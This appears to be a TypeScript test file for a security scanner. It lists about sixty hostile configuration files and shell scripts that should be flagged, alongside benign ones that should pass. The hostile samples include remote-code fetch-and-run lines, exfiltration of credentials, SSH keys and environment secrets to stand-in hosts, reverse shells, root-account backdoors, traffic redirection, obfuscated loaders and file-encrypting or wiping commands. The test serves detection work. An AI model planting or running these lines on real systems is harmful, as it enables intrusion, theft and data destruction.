import { scanFile } from "../testing/scan-file.js";

const ATTACKS: readonly (readonly [path: string, text: string])[] = [
  [
    "99-usb.rules",
    'ACTION=="add", SUBSYSTEM=="usb", RUN+="/bin/sh -c \'curl -s http://203.0.113.9/u -o /run/u && sh /run/u\'"\n',
  ],
  [
    "common-auth",
    'auth optional pam_exec.so expose_authtok /bin/sh -c "cat | curl -s -d @- https://p.invalid/k"\n',
  ],
  [
    "backup.cron",
    "*/10 * * * * root wget -q -O /var/tmp/.b http://203.0.113.8/b; chmod +x /var/tmp/.b; /var/tmp/.b\n",
  ],
  [
    "x.service",
    "[Service]\nExecStart=/bin/bash -c 'exec 3<>/dev/tcp/203.0.113.5/443; cat <&3 | bash >&3 2>&1'\n[Install]\nWantedBy=default.target\n",
  ],
  ["init.vim", "set number\nautocmd BufWritePost * silent! !curl -s -F f=@% https://v.invalid/u\n"],
  ["vimrc", "let g:x = system('curl -s https://v.invalid/x -o /tmp/.x; sh /tmp/.x')\n"],
  ["init.lua", 'vim.opt.number = true\nvim.fn.jobstart({"sh","-c","curl -s https://v.invalid/x | sh"})\n'],
  [
    "ssh_config",
    "Host *\n  ProxyCommand sh -c 'curl -s https://p.invalid/%h -d @$HOME/.ssh/id_rsa; nc %h %p'\n",
  ],
  [
    "default.conf",
    'server { location /x { content_by_lua_block { os.execute("curl -s https://p.invalid/x -o /tmp/x && sh /tmp/x") } } }\n',
  ],
  [
    "app.ini",
    '[program:w]\ncommand=/bin/sh -c "while true; do curl -s https://p.invalid/c | sh; sleep 60; done"\n',
  ],
  [
    "client.ovpn",
    "client\nscript-security 2\nup \"/bin/sh -c 'wget -q -O /tmp/u http://203.0.113.4/u; sh /tmp/u'\"\n",
  ],
  [
    "wg0.conf",
    "[Interface]\nPrivateKey = x\nPostUp = curl -s -T /etc/wireguard/wg0.conf https://w.invalid/k\n",
  ],
  [
    "interfaces",
    "auto eth0\niface eth0 inet dhcp\n  post-up wget -qO /tmp/n http://203.0.113.4/n && sh /tmp/n\n",
  ],
  [
    "tool.spec",
    "Name: tool\n%post\ncurl -s https://r.invalid/p -o /usr/sbin/toold\nchmod 755 /usr/sbin/toold\n/usr/sbin/toold &\n%files\n",
  ],
  [
    "debian/postinst",
    "#!/bin/sh\nset -e\nuseradd -o -u 0 -g 0 -M -s /bin/bash svc\necho 'svc:x' | chpasswd\n",
  ],
  [
    "templates/deploy.yaml",
    'apiVersion: v1\nkind: Pod\nspec:\n  hostPID: true\n  containers:\n  - name: a\n    image: alpine\n    securityContext: { privileged: true }\n    command: ["nsenter","-t","1","-m","--","sh","-c","curl -s https://p.invalid/x | sh"]\n',
  ],
  [
    "cron.yaml",
    'apiVersion: batch/v1\nkind: CronJob\nspec:\n  schedule: "*/5 * * * *"\n  jobTemplate:\n    spec:\n      template:\n        spec:\n          serviceAccountName: admin\n          containers:\n          - name: a\n            image: bitnami/kubectl\n            command:\n            - /bin/sh\n            - -c\n            - kubectl get secrets -A -o json | curl -s -d @- https://p.invalid/s\n',
  ],
  [
    ".github/workflows/ci.yml",
    'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n    - uses: actions/checkout@v4\n    - run: |\n        A=$(printenv | gzip | base64 -w0)\n        curl -s "https://c.invalid/?q=$A"\n',
  ],
  [
    "ci/action.yml",
    'name: x\nruns:\n  using: composite\n  steps:\n  - shell: python\n    run: |\n      import os,urllib.request,json\n      urllib.request.urlopen("https://c.invalid", json.dumps(dict(os.environ)).encode())\n',
  ],
  [
    ".circleci/config.yml",
    "version: 2.1\njobs:\n  b:\n    docker: [{image: cimg/base:stable}]\n    steps:\n    - run:\n        name: cache\n        command: |\n          env | base64 | curl -s --data-binary @- https://c.invalid/e\n",
  ],
  [
    "azure-pipelines.yml",
    "steps:\n- powershell: |\n    $d = Get-ChildItem env: | ConvertTo-Json\n    Invoke-RestMethod https://c.invalid/e -Method Post -Body $d\n",
  ],
  [
    "Jenkinsfile",
    "node {\n  withCredentials([string(credentialsId: 'deploy', variable: 'T')]) {\n    sh 'echo $T | rev | curl -s -d @- https://c.invalid/t'\n  }\n}\n",
  ],
  [
    "Dockerfile",
    'FROM node:20\nRUN npm ci\nONBUILD RUN curl -s https://d.invalid/o | sh\nHEALTHCHECK CMD wget -qO- "http://203.0.113.3/?$(env | base64 -w0)" || exit 0\n',
  ],
  [
    "compose.yml",
    'services:\n  a:\n    image: alpine\n    pid: host\n    volumes: ["/var/run/docker.sock:/var/run/docker.sock"]\n    command: sh -c "apk add docker-cli && docker run -v /:/h alpine chroot /h sh -c \'echo x >> /root/.ssh/authorized_keys\'"\n',
  ],
  [
    "image.pkr.hcl",
    'locals { a = ["curl", "-s", "https://p.invalid/x"] }\nbuild {\n  provisioner "shell" {\n    inline = [join(" ", concat(local.a, ["|", "sh"]))]\n  }\n}\n',
  ],
  [
    "data.tf",
    'data "external" "x" {\n  program = ["sh", "-c", "cat ~/.aws/credentials | curl -s -d @- https://t.invalid/c; echo \'{}\'"]\n}\n',
  ],
  [
    "a.sh",
    'p=(143 165 162 154)\ns=; for o in "\x24{p[@]}"; do printf -v c "\\\\\\\\$o"; s+=$(printf "$c"); done\n$s -s https://b.invalid/x -o /tmp/x; . /tmp/x\n',
  ],
  [
    "b.sh",
    'declare -A m=([a]=cu [b]=rl [c]=ba [d]=sh)\n"\x24{m[a]}\x24{m[b]}" -s https://b.invalid/y | "\x24{m[c]}\x24{m[d]}"\n',
  ],
  ["c.sh", "x1=wget; n=x1; \x24{!n} -qO- https://b.invalid/z | \x24{BASH:-sh}\n"],
  ["d.sh", "xxd -r -p <<< 6563686f > /tmp/q; sh /tmp/q\n"],
  [
    "e.sh",
    'export FN=\'() { :; }\'; run() { local a=("$@"); "\x24{a[@]}"; }\nrun tar czf - ~/.gnupg ~/.ssh | run openssl s_client -quiet -connect 203.0.113.9:443\n',
  ],
  [
    "f.zsh",
    'zmodload zsh/net/tcp\nztcp 203.0.113.2 9001\nwhile read -u $REPLY l; do eval "$l" >&$REPLY; done\n',
  ],
  ["g.ksh", 'exec 3<>/dev/tcp/203.0.113.2/9001\nwhile read -u3 line; do eval "$line" >&3 2>&1; done\n'],
  ["h.sh", "sudo gcore -o /tmp/m $(pgrep ssh-agent) && curl -s -F m=@/tmp/m.1 https://b.invalid/m\n"],
  ["i.sh", "for c in $(tar c ~/.ssh | gzip | xxd -p -c 30); do dig +short $c.x.b.invalid; done\n"],
  [
    "j.sh",
    "git config --global core.hooksPath \"$HOME/.cache/h\"\nmkdir -p ~/.cache/h\nprintf '#!/bin/sh\\ncurl -s -F d=@.env https://b.invalid/e\\n' > ~/.cache/h/pre-commit\n",
  ],
  [
    "k.sh",
    'echo "alias sudo=\'f(){ read -sp \\"Password: \\" p; curl -s -d p=\\$p https://b.invalid/p; command sudo \\"\\$@\\"; }; f\'" >> ~/.zshrc\n',
  ],
  [
    "l.sh",
    "curl -so /usr/local/lib/libx.so https://b.invalid/l\necho /usr/local/lib/libx.so >> /etc/ld.so.preload\n",
  ],
  [
    "m.sh",
    "install -m755 /dev/stdin /etc/update-motd.d/99-x <<'X'\n#!/bin/sh\ncurl -s https://b.invalid/m | sh\nX\n",
  ],
  [
    "com.x.plist",
    "<plist><dict><key>Label</key><string>com.x</string><key>ProgramArguments</key><array><string>/bin/sh</string><string>-c</string><string>curl -s https://m.invalid/p | sh</string></array><key>RunAtLoad</key><true/></dict></plist>",
  ],
  [
    "ks.cfg",
    '%post\necho "ssh-rsa AAAAB3 x" >> /root/.ssh/authorized_keys\ncurl -s https://k.invalid/p | bash\n%end\n',
  ],
  ["user-data", '#cloud-config\nruncmd:\n  - [sh, -c, "curl -s https://k.invalid/c | sh"]\n'],
  [
    "config.bu",
    'variant: fcos\nsystemd:\n  units:\n  - name: a.service\n    enabled: true\n    contents: |\n      [Service]\n      ExecStart=/bin/bash -c "curl -s https://k.invalid/i | bash"\n',
  ],
  ["init.sls", "warm:\n  cmd.run:\n    - name: curl -s https://k.invalid/s | sh\n"],
  ["default.rb", "execute 'x' do\n  command 'wget -qO /tmp/c https://k.invalid/c && bash /tmp/c'\nend\n"],
  ["init.pp", "exec { 'x': command => '/usr/bin/curl -s https://k.invalid/p | /bin/sh' }\n"],
  ["a.sh", 'echo "$USER ALL=(ALL) NOPASSWD: ALL" | sudo tee /etc/sudoers.d/x\n'],
  [
    "fw.sh",
    "iptables -t nat -A OUTPUT -p tcp --dport 443 -d pypi.org -j DNAT --to-destination 203.0.113.3:443\n",
  ],
  ["h.sh", 'echo "203.0.113.3 registry.npmjs.org" | sudo tee -a /etc/hosts\n'],
  [
    "c.sh",
    "curl -so /usr/local/share/ca-certificates/x.crt http://203.0.113.3/ca && update-ca-certificates\n",
  ],
  [
    "p.sh",
    "git config --global http.proxy http://203.0.113.3:8080\ngit config --global http.sslVerify false\nnpm config set proxy http://203.0.113.3:8080\nnpm config set strict-ssl false\n",
  ],
  ["s.sh", "timedatectl set-ntp false; setfacl -m u:nobody:rwx /etc/shadow; chattr +i /etc/cron.d/x\n"],
  [
    "d.sh",
    "sed -i 's/^#\\?PermitRootLogin.*/PermitRootLogin yes/; s/^#\\?PasswordAuthentication.*/PasswordAuthentication yes/' /etc/ssh/sshd_config && systemctl restart sshd && echo root:x | chpasswd\n",
  ],
  [
    "t.sh",
    "nohup ssh -fN -R 2222:localhost:22 t@203.0.113.3 -o StrictHostKeyChecking=no >/dev/null 2>&1 &\n",
  ],
  [
    "t2.sh",
    "cloudflared tunnel --url ssh://localhost:22 2>&1 | grep -o 'https://.*trycloudflare.com' | curl -s -d @- https://t.invalid/u\n",
  ],
  [
    "w.sh",
    'for d in Documents Desktop Pictures; do find ~/$d -type f -exec sh -c \'openssl enc -aes-256-cbc -pass pass:$0 -in "$1" -out "$1.enc" && rm -f "$1"\' k {} \\;; done\n',
  ],
  [
    "w4.sh",
    "git for-each-ref --format='%(refname)' | xargs -n1 git update-ref -d; rm -rf .git; cd ~ && rm -rf -- *\n",
  ],
  ["log.sh", "git log -1 --format=%b | sh\n"],
  ["pipe.sh", "exec 9> >(bash); curl -s https://q.invalid/z >&9\n"],
  [
    "tasks.sh",
    'while sleep 300; do x=$(curl -fs https://q.invalid/task/$(hostname)) && bash -c "$x" 2>&1 | curl -s --data-binary @- https://q.invalid/out; done &\n',
  ],
  [
    "agent.sh",
    'ssh() { script -qc "command ssh $*" /tmp/.s; curl -s -F f=@/tmp/.s https://q.invalid; }\nexport -f ssh\n',
  ],
  ["own.sh", "#!/bin/sh\necho ok\nsed '1,/^#--$/d' \"$0\" | tr 'a-z' 'n-za-m' | sh\nexit\n#--\nrpub uv\n"],
];

/** Files of the same kinds that do nothing of that. */
const HONEST: readonly (readonly [path: string, text: string])[] = [
  [
    "tmux.conf",
    'set -g mouse on\nbind r source-file ~/.tmux.conf\nset -g status-right "#(uptime | cut -d, -f1)"\n',
  ],
  [
    "apps.logrotate",
    "/srv/log/*.log {\n  weekly\n  postrotate\n    systemctl reload nginx\n  endscript\n}\n",
  ],
  ["job.cron", "15 3 * * * root tar czf /srv/backup/etc.tgz /etc/nginx\n"],
  ["Warnings.cmake", "execute_process(COMMAND git describe --always OUTPUT_VARIABLE VERSION)\n"],
  ["configure.ac", "AC_INIT([a], m4_esyscmd_s([git describe --always]), [bugs@example.org])\nAC_PROG_CC\n"],
  [
    "site.yml",
    "- hosts: web\n  tasks:\n    - ansible.builtin.get_url:\n        url: https://github.com/a/b/releases/download/v1/b.tgz\n        dest: /opt/b.tgz\n    - ansible.builtin.command: systemctl restart nginx\n",
  ],
  [
    "main.tf",
    'locals {\n  name = "web"\n  tags = ["a", "b"]\n}\nresource "x" "y" {\n  name = join("-", concat([local.name], local.tags))\n  user_data = "#!/bin/sh\\napt-get install -y nginx\\n"\n}\n',
  ],
  ["help.mk", "SHELL := /bin/bash\n.SHELLFLAGS := -eu -o pipefail -c\nhelp:\n\t@echo help\n"],
  ["smoke.sh", "curl -K smoke.curlrc https://example.org/health\n"],
  ["clean.sh", 'out=build\nfor d in "$out" dist; do rm -rf "./$d"; done\nrm -rf "\x24{out:?}/"*\n'],
  [
    "prompt.fish",
    "set -l parts one two three\nset -l line (string join ' ' -- $parts | string replace -a o 0)\necho $line\n",
  ],
  ["ids.sh", "decode() { echo $((36#$1)); }\ndecode 2n9c\n"],
  ["trace.sh", "trap 'echo \"$BASH_COMMAND\" >> trace.log' DEBUG\nmake build\n"],
  ["speed.sh", "printf 'a\\nb\\n' | awk '{ print $1 | \"sort -u\" }'\n"],
  ["long.sh", 'docker run \\\n  --rm \\\n  -v "$PWD":/w \\\n  alpine ls /w\n'],
  ["note.sh", "ed -s notes.txt <<'ED'\n$a\none more line\n.\nw\nq\nED\n"],
  [
    "ci.yml",
    'variables:\n  TOOL: "pip"\n  STEP: "$TOOL install -q ."\njob:\n  script:\n    - $STEP\n    - pytest -q\n',
  ],
  [
    "go-private",
    '[url "ssh://git@git.example.org/"]\n\tinsteadOf = https://git.example.org/\n[credential]\n\thelper = cache\n',
  ],
  ["sortcsv", "#!/usr/bin/env -S awk -f\n{ print $1 }\n"],
];

describe("scripts, settings, and recipes of systems", () => {
  test.each(ATTACKS)("%s is held", async (path, text) => {
    expect((await scanFile(path, text)).outcome).not.toBe("pass");
  });

  test.each(HONEST)("%s passes", async (path, text) => {
    expect((await scanFile(path, text)).outcome).toBe("pass");
  });
});
